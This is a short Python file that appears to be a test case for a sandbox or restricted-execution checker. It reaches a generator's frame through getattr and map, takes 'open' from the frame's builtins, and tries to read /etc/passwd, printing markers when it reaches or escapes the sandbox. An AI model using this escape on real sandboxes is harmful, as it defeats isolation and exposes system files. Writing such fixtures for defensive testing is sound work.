# tries: getattr mapped over objects and names
# class: reader
# stops: 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


use(pick(next(map(getattr, [(x for x in ())], ["gi_frame"]))))
